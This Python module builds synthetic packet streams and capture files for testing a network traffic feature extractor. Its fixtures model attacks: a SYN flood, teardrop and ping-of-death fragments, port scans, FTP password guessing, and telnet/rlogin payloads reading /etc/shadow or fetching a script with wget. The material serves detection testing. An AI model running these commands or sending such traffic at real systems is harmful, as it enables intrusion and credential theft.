"""Synthetic frame streams for the engine's differential tests, and capture files holding them.

A stream is a list of (frame bytes, link type, timestamp), what Extractor.feed takes. Bulk TCP is
built with struct (scapy is too slow for thousands of packets); the rarer headers with scapy.
"""

from __future__ import annotations

import random
import struct
from collections.abc import Callable
from pathlib import Path

from scapy.layers.inet import ICMP, IP, TCP, UDP, fragment
from scapy.layers.inet6 import (
    ICMPv6DestUnreach,
    ICMPv6EchoReply,
    ICMPv6EchoRequest,
    ICMPv6ND_NS,
    ICMPv6PacketTooBig,
    IPv6,
    IPv6ExtHdrDestOpt,
    IPv6ExtHdrFragment,
    IPv6ExtHdrHopByHop,
    IPv6ExtHdrRouting,
    fragment6,
)
from scapy.layers.ipsec import AH, ESP

Frame = tuple[bytes, int, float]
ETHERNET, RAW, LOOP, SLL, SLL2, NULL, IPV4, IPV6 = 1, 101, 108, 113, 276, 0, 228, 229
T0 = 1_700_000_000.0
MACS = b"\x02\x00\x00\x00\x00\x01\x02\x00\x00\x00\x00\x02"
CLIENT, SERVER = 0x0A000001, 0x0A000002
FIN, SYN, RST, PSH, ACK, URG = 1, 2, 4, 8, 16, 32


def ipv4(src: int, dst: int, proto: int, payload: bytes, ident: int = 1, frag: int = 0) -> bytes:
    """An IPv4 packet (no options, checksum 0)."""
    header = struct.pack(
        "!BBHHHBBHII", 0x45, 0, 20 + len(payload), ident, frag, 64, proto, 0, src, dst
    )
    return header + payload


def ether(packet: bytes, ethertype: int = 0x0800, vlans: tuple[int, ...] = ()) -> bytes:
    """An Ethernet frame; vlans are the tag protocol identifiers of stacked tags, outer first."""
    tags = b"".join(struct.pack("!HH", tpid, 100 + i) for i, tpid in enumerate(vlans))
    if vlans:
        tags = tags[2:] + struct.pack("!H", ethertype)
        return MACS + struct.pack("!H", vlans[0]) + tags + packet
    return MACS + struct.pack("!H", ethertype) + packet


def segment(
    sport: int, dport: int, seq: int, ack: int, flags: int, payload: bytes = b"", urg: int = 0
) -> bytes:
    """A TCP segment (no options, checksum 0)."""
    header = struct.pack(
        "!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, 5 << 4, flags, 65535, 0, urg
    )
    return header + payload


def tcp(
    t: float,
    src: int,
    dst: int,
    sport: int,
    dport: int,
    seq: int,
    ack: int,
    flags: int,
    payload: bytes = b"",
    vlans: tuple[int, ...] = (),
) -> Frame:
    """An Ethernet/IPv4/TCP frame at T0 + t."""
    packet = ipv4(src, dst, 6, segment(sport, dport, seq, ack, flags, payload))
    return ether(packet, vlans=vlans), ETHERNET, T0 + t


def udp(t: float, src: int, dst: int, sport: int, dport: int, payload: bytes) -> Frame:
    """An Ethernet/IPv4/UDP frame at T0 + t."""
    header = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0)
    return ether(ipv4(src, dst, 17, header + payload)), ETHERNET, T0 + t


def session(
    t: float,
    client: int,
    server: int,
    sport: int,
    dport: int,
    talk: list[tuple[bool, bytes]],
    close: str = "fin",
    step: float = 1e-3,
    vlans: tuple[int, ...] = (),
) -> list[Frame]:
    """A TCP connection: handshake, talk (from_client, data) in order, then close: "fin", "rst",
    "half" (the client's FIN only) or "" (left open)."""
    seqs, out = {True: 100, False: 900}, []

    def send(from_client: bool, flags: int, data: bytes = b"") -> None:
        nonlocal t
        src, dst, sp, dp = (
            (client, server, sport, dport) if from_client else (server, client, dport, sport)
        )
        out.append(
            tcp(t, src, dst, sp, dp, seqs[from_client], seqs[not from_client], flags, data, vlans)
        )
        seqs[from_client] += len(data) + bool(flags & (SYN | FIN))
        t += step

    send(True, SYN)
    send(False, SYN | ACK)
    send(True, ACK)
    for from_client, data in talk:
        send(from_client, PSH | ACK, data)
    if close in ("fin", "half"):
        send(True, FIN | ACK)
        if close == "fin":
            send(False, FIN | ACK)
            send(True, ACK)
    elif close == "rst":
        send(False, RST | ACK)
    return out


def by_time(*streams: list[Frame]) -> list[Frame]:
    """Streams merged in time order (stable)."""
    return sorted((f for s in streams for f in s), key=lambda f: f[2])


def syn_flood(sources: int = 10_000) -> list[Frame]:
    """A SYN flood from spoofed sources; the server answers one in ten with SYN-ACK, one in ten
    with RST, and a few normal connections run alongside."""
    rng = random.Random(23)
    out: list[Frame] = []
    for i in range(sources):
        src, sport, t = rng.getrandbits(32) | 0x01000000, rng.randrange(1024, 65536), i * 1e-4
        out.append(tcp(t, src, SERVER, sport, 80, rng.getrandbits(32), 0, SYN))
        if i % 10 == 3:
            out.append(tcp(t + 5e-5, SERVER, src, 80, sport, 7, 1, SYN | ACK))
        elif i % 10 == 7:
            out.append(tcp(t + 5e-5, SERVER, src, 80, sport, 0, 1, RST | ACK))
    normal = [
        session(
            i * 0.1,
            CLIENT,
            SERVER,
            30000 + i,
            80,
            [(True, b"GET / HTTP/1.0\r\n\r\n"), (False, b"HTTP/1.0 200 OK\r\n\r\n")],
        )
        for i in range(10)
    ]
    return by_time(out, *normal)


def long_flows(segments: int = 2500) -> list[Frame]:
    """A few connections of thousands of segments both ways, with retransmissions, out-of-order
    segments, urgent data and idle gaps; closed by FINs, by a reset, half-closed and left open."""
    flows = []
    for index, close in enumerate(("fin", "rst", "half", "")):
        talk = [(i % 3 != 0, bytes([65 + i % 26]) * (1 + (i * 37) % 1400)) for i in range(segments)]
        frames = session(
            index * 0.3, CLIENT, SERVER + index, 40000 + index, 5000 + index, talk, close, 2e-4
        )
        for i in range(5, len(frames) - 5, 97):  # a retransmission of a segment
            frames.insert(i, frames[i - 1])
        for i in range(7, len(frames) - 5, 53):  # two segments swapped
            frames[i], frames[i + 1] = frames[i + 1], frames[i]
        flows.append(_restamp(frames, index * 0.3, 2e-4, gap_every=800, gap=3.0))
    flows[0][100] = _urgent(flows[0][100])
    return by_time(*flows)


def _restamp(frames: list[Frame], t: float, step: float, gap_every: int, gap: float) -> list[Frame]:
    """The frames re-stamped in list order, with an idle gap every gap_every frames."""
    out = []
    for i, (frame, linktype, _) in enumerate(frames):
        t += step + (gap if i and i % gap_every == 0 else 0.0)
        out.append((frame, linktype, T0 + t))
    return out


def _urgent(frame: Frame) -> Frame:
    """The frame with URG set and an urgent pointer."""
    data, linktype, ts = frame
    tcp_at = 14 + 20
    flags = data[tcp_at + 13] | URG
    data = (
        data[: tcp_at + 13]
        + bytes([flags])
        + data[tcp_at + 14 : tcp_at + 18]
        + b"\x00\x01"
        + data[tcp_at + 20 :]
    )
    return data, linktype, ts


def scapy_frames(
    packets: list, t: float = 0.0, step: float = 1e-3, linktype: int = ETHERNET
) -> list[Frame]:
    """Scapy packets as frames, 1 ms apart from T0 + t."""
    return [(bytes(p), linktype, T0 + t + i * step) for i, p in enumerate(packets)]


def fragments() -> list[Frame]:
    """IPv4 and IPv6 fragments: in order, reversed, duplicated, overlapping (teardrop), a ping of
    death, tiny, incomplete (left to time out), and a fragmented TCP SYN."""
    a, b = "10.0.0.1", "10.0.0.2"
    whole = fragment(IP(src=a, dst=b, id=1) / UDP(sport=5000, dport=53) / (b"u" * 3000), 400)
    teardrop = [
        IP(src=a, dst=b, id=2, flags="MF", proto=17) / (b"\0" * 8 + b"t" * 28),
        IP(src=a, dst=b, id=2, frag=3, proto=17) / (b"t" * 4),
    ]
    overlap = [
        IP(src=a, dst=b, id=3, flags="MF", proto=17) / (b"\0" * 8 + b"o" * 40),
        IP(src=a, dst=b, id=3, flags="MF", frag=2, proto=17) / (b"p" * 40),
        IP(src=a, dst=b, id=3, frag=5, proto=17) / (b"q" * 16),
    ]
    death = [
        IP(src=a, dst=b, id=4, flags="MF" if off < 8184 else 0, frag=off, proto=1)
        / ((b"\x08\0\0\0\0\0\0\0" if off == 0 else b"") + b"d" * (1472 if off == 0 else 1480))
        for off in range(0, 8190, 185)
    ]
    tiny = [IP(src=a, dst=b, id=5, flags="MF", frag=i, proto=6) / (b"\0" * 8) for i in range(6)]
    tiny.append(IP(src=a, dst=b, id=5, frag=6, proto=6) / b"end")
    syn = fragment(
        IP(src=a, dst=b, id=6) / TCP(sport=1, dport=80, flags="S", options=[("NOP", None)] * 20), 24
    )
    incomplete = [IP(src=a, dst=b, id=7, flags="MF", proto=1) / (b"\x08\0\0\0" + b"i" * 20)]
    v6 = IPv6(src="2001:db8::1", dst="2001:db8::2")
    v6_udp = fragment6(v6 / IPv6ExtHdrFragment(id=8) / UDP(sport=7, dport=7) / (b"6" * 3000), 1000)
    v6_ping = fragment6(v6 / IPv6ExtHdrFragment(id=9) / ICMPv6EchoRequest(data=b"p" * 2000), 600)
    v6_overlap = [
        v6 / IPv6ExtHdrFragment(id=10, m=1, nh=17) / (b"\0" * 8 + b"x" * 24),
        v6 / IPv6ExtHdrFragment(id=10, offset=2, nh=17) / (b"y" * 16),
    ]
    v6_atomic = [v6 / IPv6ExtHdrFragment(id=11) / UDP(sport=9, dport=9) / b"atomic"]
    ipv4_parts = [
        *whole,
        *reversed(whole),
        whole[2],
        *teardrop,
        *overlap,
        *death,
        *tiny,
        *syn,
        *incomplete,
    ]
    v6_parts = [*v6_udp, *reversed(v6_ping), *v6_overlap, *v6_atomic]
    with_l2 = [p if p.haslayer("Ether") else _eth(p) for p in ipv4_parts + v6_parts]
    late = scapy_frames([_eth(IP(src=a, dst=b) / ICMP())], 60.0)  # past the fragments' timeout
    return scapy_frames(with_l2) + late


def _eth(packet) -> bytes:
    """A scapy IP or IPv6 packet in an Ethernet frame, as bytes."""
    raw = bytes(packet)
    return ether(raw, 0x0800 if raw[0] >> 4 == 4 else 0x86DD)


def vlans() -> list[Frame]:
    """Sessions behind 802.1Q, QinQ (0x88A8 and 0x9100 outer tags), IPv6 and ARP behind a tag,
    and a tag cut short."""
    talk = [(True, b"GET / HTTP/1.1\r\n\r\n"), (False, b"HTTP/1.1 200 OK\r\n\r\nbody")]
    tagged = [
        session(i * 0.01, CLIENT, SERVER, 20000 + i, 80, talk, vlans=tags)
        for i, tags in enumerate(
            ((0x8100,), (0x88A8, 0x8100), (0x9100, 0x8100), (0x8100, 0x8100, 0x8100))
        )
    ]
    v6 = bytes(IPv6(src="2001:db8::1", dst="2001:db8::2") / UDP(sport=5, dport=53) / b"q")
    extra = [
        (ether(v6, 0x86DD, (0x8100,)), ETHERNET, T0 + 1.0),
        (ether(b"\0\x01\x08\0\x06\x04\0\x01" + b"\0" * 20, 0x0806, (0x8100,)), ETHERNET, T0 + 1.1),
        (MACS + b"\x81\x00\x00", ETHERNET, T0 + 1.2),
    ]
    return by_time(*tagged, extra)


def ipv6_extensions() -> list[Frame]:
    """IPv6 with hop-by-hop, routing, destination options, AH and ESP headers in chains; AH over
    IPv4; a no-next-header packet and a chain running past the packet's end."""
    a, b = "2001:db8::1", "2001:db8::2"
    chains = [
        (IPv6ExtHdrHopByHop(),),
        (IPv6ExtHdrRouting(addresses=["2001:db8::9"]),),
        (IPv6ExtHdrDestOpt(),),
        (AH(spi=1, icv=b"\0" * 12, payloadlen=4),),
        (
            IPv6ExtHdrHopByHop(),
            IPv6ExtHdrDestOpt(),
            IPv6ExtHdrRouting(),
            AH(spi=2, icv=b"\0" * 12, payloadlen=4),
            IPv6ExtHdrDestOpt(),
        ),
    ]
    packets = []
    for i, chain in enumerate(chains):
        flags = ("S", "SA", "A", "PA", "FA", "A")
        for j, flag in enumerate(flags):
            src, dst, sp, dp = (a, b, 3000 + i, 80) if j % 2 == 0 else (b, a, 80, 3000 + i)
            head = IPv6(src=src, dst=dst)
            for ext in chain:
                head = head / ext.copy()
            packets.append(
                head
                / TCP(sport=sp, dport=dp, flags=flag, seq=j)
                / (b"e" * 10 if "P" in flag else b"")
            )
        packets.append(
            IPv6(src=a, dst=b) / chain[-1].copy() / UDP(sport=4000 + i, dport=53) / b"dns"
        )
    packets += [
        IPv6(src=a, dst=b) / ESP(spi=5, seq=1, data=b"sealed"),
        IPv6(src=a, dst=b, nh=59) / b"",
        IPv6(src=a, dst=b) / IPv6ExtHdrHopByHop(nh=60, len=200),
        IP(src="10.0.0.1", dst="10.0.0.2")
        / AH(spi=3, icv=b"\0" * 12, payloadlen=4)
        / UDP(sport=1, dport=2)
        / b"ah4",
        IP(src="10.0.0.1", dst="10.0.0.2", options=[b"\x01" * 8]) / UDP(sport=1, dport=2) / b"opt",
    ]
    return scapy_frames([_eth(_bind_ah(p)) for p in packets])


def _bind_ah(packet):
    """The packet with each AH header's next header naming the layer after it (scapy leaves 0)."""
    layer = packet
    while layer.payload:
        if isinstance(layer, AH):
            layer.nh = {TCP: 6, UDP: 17}.get(type(layer.payload), 60)
        layer = layer.payload
    return packet


def content() -> list[Frame]:
    """Cleartext logins and commands on the content ports (FTP, telnet, SMTP, POP3, IMAP, HTTP,
    rlogin, rsh) that the content features read."""
    c, s = True, False
    talks = {
        21: [
            (s, b"220 ready\r\n"),
            (c, b"USER anonymous\r\n"),
            (s, b"331 ok\r\n"),
            (c, b"PASS x@\r\n"),
            (s, b"230 in\r\n"),
            (c, b"RETR /etc/passwd\r\nSTOR a\r\nSITE exec\r\n"),
        ],
        2121: [(s, b"220 ready\r\n")],
        23: [
            (s, b"login: "),
            (c, b"root\r\n"),
            (s, b"Password:"),
            (c, b"x\r\n"),
            (s, b"Login incorrect\r\nlogin: "),
            (c, b"root\r\n"),
            (s, b"Last login: today\r\n# "),
            (c, b"su -\r\ncat /etc/shadow; gcc x.c; chmod 777 .rhosts\r\n"),
            (s, b"uid=0(root) Permission denied\r\nroot@h:~# "),
        ],
        25: [
            (s, b"220 mail\r\n"),
            (c, b"EHLO x\r\n"),
            (s, b"250 ok\r\n"),
            (c, b"AUTH LOGIN\r\n"),
            (s, b"535 no\r\n"),
        ],
        110: [
            (s, b"+OK pop\r\n"),
            (c, b"USER guest\r\n"),
            (s, b"+OK\r\n"),
            (c, b"PASS x\r\n"),
            (s, b"-ERR bad\r\n"),
            (c, b"PASS y\r\n"),
            (s, b"+OK maildrop ready\r\n"),
        ],
        143: [
            (s, b"* OK imap\r\n"),
            (c, b'a1 LOGIN "bob" pw\r\n'),
            (s, b"a1 NO fail\r\n"),
            (c, b"a2 LOGIN bob pw2\r\n"),
            (s, b"a2 OK LOGIN done\r\n"),
        ],
        80: [
            (c, b"POST /cgi-bin/login HTTP/1.1\r\nHost: x\r\n\r\nuser=a&pw=../../etc/passwd"),
            (s, b"HTTP/1.1 401 Unauthorized\r\n\r\n"),
            (c, b"GET /index.html HTTP/1.1\r\n\r\n"),
            (s, b"HTTP/1.1 200 OK\r\n\r\n" + b"<p>x</p>\n" * 300),
        ],
        8001: [(c, b"GET / HTTP/1.0\r\n\r\n"), (s, b"HTTP/1.0 302 Found\r\n\r\n")],
        513: [
            (c, b"\0root\0root\0xterm/38400\0"),
            (s, b"\0Last login: now\r\n$ "),
            (c, b"wget http://x/sh; python -c 1\r\n"),
        ],
        514: [(c, b"0\0root\0root\0id\0"), (s, b"permission denied\r\n")],
    }
    sessions = [
        session(i * 0.5, CLIENT, SERVER, 41000 + i, port, talk, close=("fin", "rst", "")[i % 3])
        for i, (port, talk) in enumerate(talks.items())
    ]
    big = [(c, b"A" * 1400)] * 30 + [(s, b"B" * 1400)] * 30
    sessions.append(session(9.0, CLIENT, SERVER, 42000, 23, big))  # past the 32 KiB cap each way
    return by_time(*sessions)


def icmp() -> list[Frame]:
    """ICMP and ICMPv6 of many types and codes (echo, unreachable with the offending header,
    time exceeded, redirect, timestamp, address mask, unknown types), a broadcast ping and a land
    SYN."""
    a, b = "10.0.0.1", "10.0.0.2"
    inner = IP(src=b, dst=a) / UDP(sport=53, dport=33434)
    packets = [IP(src=a, dst=b) / ICMP(type=8, id=1, seq=i) / b"ping" for i in range(3)]
    packets += [IP(src=b, dst=a) / ICMP(type=0, id=1, seq=i) / b"ping" for i in range(3)]
    packets += [IP(src=b, dst=a) / ICMP(type=3, code=code) / inner for code in range(16)]
    packets += [
        IP(src=b, dst=a) / ICMP(type=kind, code=1) / inner for kind in (4, 5, 9, 10, 11, 12)
    ]
    packets += [IP(src=a, dst=b) / ICMP(type=kind) for kind in (13, 14, 15, 16, 17, 18, 40, 255)]
    packets += [
        IP(src=a, dst="10.0.0.255") / ICMP(type=8) / (b"s" * 1000),
        IP(src=a, dst=b) / ICMP(type=8),
    ]
    packets += [IP(src=b, dst=b) / TCP(sport=80, dport=80, flags="S")]
    v6 = IPv6(src="2001:db8::1", dst="2001:db8::2")
    packets += [
        v6 / ICMPv6EchoRequest(id=2, data=b"6"),
        v6 / ICMPv6EchoReply(id=2),
        v6 / ICMPv6DestUnreach(code=4) / inner,
    ]
    packets += [v6 / ICMPv6PacketTooBig(mtu=1280) / inner, v6 / ICMPv6ND_NS(tgt="2001:db8::2")]
    return scapy_frames([_eth(p) for p in packets], step=0.01)


def time_backwards() -> list[Frame]:
    """Sessions whose stamps step back by 0.5 s, 10 s and 500 s, repeat, and jump ahead."""
    frames = by_time(
        *(
            session(i * 0.2, CLIENT, SERVER + i, 50000 + i, 80, [(True, b"GET /\r\n")] * 5)
            for i in range(20)
        )
    )
    shifts = {40: -0.5, 41: 0.0, 90: -10.0, 120: -500.0, 150: 400.0, 180: -0.001}
    out, delta = [], 0.0
    for i, (frame, linktype, ts) in enumerate(frames):
        delta = shifts.get(i, delta)
        out.append((frame, linktype, ts + delta))
    return out


def many_connections(count: int = 600) -> list[Frame]:
    """Many connections open at once (half-open SYNs, established, UDP): past a small table."""
    out: list[Frame] = []
    for i in range(count):
        t, host = i * 1e-3, SERVER + i % 50
        if i % 3 == 0:
            out.append(tcp(t, CLIENT + i, host, 10000 + i, 80, 1, 0, SYN))
        elif i % 3 == 1:
            out += session(t, CLIENT, host, 10000 + i, 21, [(False, b"220 hi\r\n")], close="")
        else:
            out.append(udp(t, CLIENT, host, 10000 + i, 53, b"query"))
    closing = [
        tcp(2.0 + i * 1e-3, CLIENT, SERVER + i % 50, 10000 + i, 21, 101, 908, FIN | ACK)
        for i in range(1, count, 3)
    ]
    return by_time(out, closing)


def lab_like() -> list[Frame]:
    """What a lab run holds: users on DNS, NTP, HTTP, SSH, SMTP and FTP over a few minutes, a SYN
    scan answered by resets and SYN-ACKs, a UDP scan answered by port-unreachables, an FTP
    password guesser and slow HTTP connections left open."""
    rng, parts = random.Random(7), []
    attacker = 0x0A000063
    for i in range(60):
        t, client = i * 3.0 + rng.random(), CLIENT + i % 4
        parts.append(
            [
                udp(t, client, SERVER, 30000 + i, 53, b"\x12\x34query"),
                udp(t + 0.01, SERVER, client, 53, 30000 + i, b"\x12\x34answer"),
            ]
        )
        parts.append(
            session(
                t + 0.1,
                client,
                SERVER,
                31000 + i,
                (80, 22, 25, 21)[i % 4],
                [(True, b"hello\r\n"), (False, b"220 ok\r\n" * (1 + i % 5))],
            )
        )
        if i % 10 == 0:
            parts.append([udp(t, client, SERVER, 123, 123, b"\x23" + b"\0" * 47)])
    scan = []
    for port in range(1, 400):
        t = 100.0 + port * 1e-3
        scan.append(tcp(t, attacker, SERVER, 61000, port, 5, 0, SYN))
        answer = SYN | ACK if port in (21, 22, 25, 80, 110, 143) else RST | ACK
        scan.append(tcp(t + 1e-4, SERVER, attacker, port, 61000, 9, 6, answer))
        if answer & SYN:
            scan.append(tcp(t + 2e-4, attacker, SERVER, 61000, port, 6, 0, RST))
    for port in range(1, 100):
        scan.append(udp(130.0 + port * 1e-3, attacker, SERVER, 62000, port, b""))
        reply = bytes(
            IP(src="10.0.0.2", dst="10.0.0.99")
            / ICMP(type=3, code=3)
            / IP(src="10.0.0.99", dst="10.0.0.2")
            / UDP(sport=62000, dport=port)
        )
        scan.append((ether(reply), ETHERNET, T0 + 130.0 + port * 1e-3 + 1e-4))
    parts.append(scan)
    for i in range(40):
        guess = [
            (False, b"220 ftp\r\n"),
            (True, b"USER admin\r\n"),
            (False, b"331 pw\r\n"),
            (True, b"PASS %d\r\n" % i),
            (False, b"530 no\r\n"),
        ]
        parts.append(
            session(
                150.0 + i * 0.2, attacker, SERVER, 45000 + i, 21, guess, close=("fin", "rst")[i % 2]
            )
        )
    for i in range(20):
        parts.append(
            session(
                160.0 + i * 0.05,
                attacker,
                SERVER,
                46000 + i,
                80,
                [(True, b"GET / HTTP/1.1\r\nX-a: b\r\n")],
                close="",
            )
        )
    return by_time(*parts)


def link_types() -> dict[int, list[Frame]]:
    """The same mixed traffic (a TCP session, UDP, ICMP, IPv6, a non-IP frame) for every link
    type the engine reads, and one it does not."""
    ip_packets = [
        frame[14:]
        for frame, _, _ in session(
            0.0, CLIENT, SERVER, 1234, 80, [(True, b"GET /\r\n"), (False, b"HTTP/1.0 200 OK\r\n")]
        )
    ]
    ip_packets += [
        bytes(IP(src="10.0.0.1", dst="10.0.0.2") / UDP(sport=1, dport=53) / b"q"),
        bytes(IP(src="10.0.0.1", dst="10.0.0.2") / ICMP()),
    ]
    ip_packets += [
        bytes(IPv6(src="2001:db8::1", dst="2001:db8::2") / TCP(sport=5, dport=22, flags="S"))
    ]
    heads: dict[int, Callable[[bytes], bytes]] = {
        SLL: lambda p: struct.pack("!HHH8sH", 0, 1, 6, b"\2" * 8, _ethertype(p)) + p,
        SLL2: lambda p: struct.pack("!HHIHBB8s", _ethertype(p), 0, 3, 1, 4, 6, b"\2" * 8) + p,
        NULL: lambda p: struct.pack("<I", 2 if p[0] >> 4 == 4 else 30) + p,
        LOOP: lambda p: struct.pack("!I", 2 if p[0] >> 4 == 4 else 24) + p,
        RAW: lambda p: p,
        12: lambda p: p,
        IPV4: lambda p: p,
        IPV6: lambda p: p,
        147: lambda p: p,
    }
    not_ip = {
        SLL: b"\0\0\0\1\0\6" + b"\2" * 8 + b"\x08\x06" + b"\0" * 28,
        SLL2: b"\x08\x06" + b"\0" * 46,
        NULL: struct.pack("<I", 7) + b"x" * 20,
        LOOP: b"\0\0\0\x07" + b"x" * 20,
        RAW: b"\x50" * 20,
    }
    return {
        linktype: [(head(p), linktype, T0 + i * 1e-3) for i, p in enumerate(ip_packets)]
        + ([(not_ip[linktype], linktype, T0 + 1.0)] if linktype in not_ip else [])
        for linktype, head in heads.items()
    }


def _ethertype(packet: bytes) -> int:
    return 0x0800 if packet[0] >> 4 == 4 else 0x86DD


STREAMS: dict[str, Callable[[], list[Frame]]] = {
    "syn_flood": syn_flood,
    "long_flows": long_flows,
    "fragments": fragments,
    "vlans": vlans,
    "ipv6_extensions": ipv6_extensions,
    "content": content,
    "icmp": icmp,
    "time_backwards": time_backwards,
    "many_connections": many_connections,
    "lab_like": lab_like,
}


def write_pcap(
    path: Path,
    frames: list[Frame],
    nano: bool = False,
    big_endian: bool = False,
    snaplen: int = 262144,
) -> Path:
    """A pcap of frames of one link type, records cut to snaplen bytes."""
    order, scale = (">" if big_endian else "<"), (1e9 if nano else 1e6)
    magic = 0xA1B23C4D if nano else 0xA1B2C3D4
    linktype = frames[0][1] if frames else ETHERNET
    with path.open("wb") as out:
        out.write(struct.pack(order + "IHHiIII", magic, 2, 4, 0, 0, snaplen, linktype))
        for frame, _, ts in frames:
            sec = int(ts)
            kept = frame[:snaplen]
            out.write(
                struct.pack(order + "IIII", sec, round((ts - sec) * scale), len(kept), len(frame))
                + kept
            )
    return path


def write_pcapng(path: Path, frames: list[Frame], tsresol: dict[int, int]) -> Path:
    """A pcapng with one interface per link type (in tsresol's order, each with its if_tsresol
    byte), and an enhanced packet block per frame."""
    index = {linktype: i for i, linktype in enumerate(tsresol)}
    blocks = [_block(0x0A0D0D0A, struct.pack("<IHHq", 0x1A2B3C4D, 1, 0, -1))]
    for linktype, resol in tsresol.items():
        options = struct.pack("<HHB3x", 9, 1, resol) + b"\0\0\0\0"
        blocks.append(_block(1, struct.pack("<HHI", linktype, 0, 262144) + options))
    for frame, linktype, ts in frames:
        resol = tsresol[linktype]
        units = 2 ** (resol & 0x7F) if resol & 0x80 else 10**resol
        ticks = round(ts * units)
        body = struct.pack(
            "<IIIII", index[linktype], ticks >> 32, ticks & 0xFFFFFFFF, len(frame), len(frame)
        )
        blocks.append(_block(6, body + frame + b"\0" * (-len(frame) % 4)))
    path.write_bytes(b"".join(blocks))
    return path


def _block(kind: int, body: bytes) -> bytes:
    size = 12 + len(body)
    return struct.pack("<II", kind, size) + body + struct.pack("<I", size)
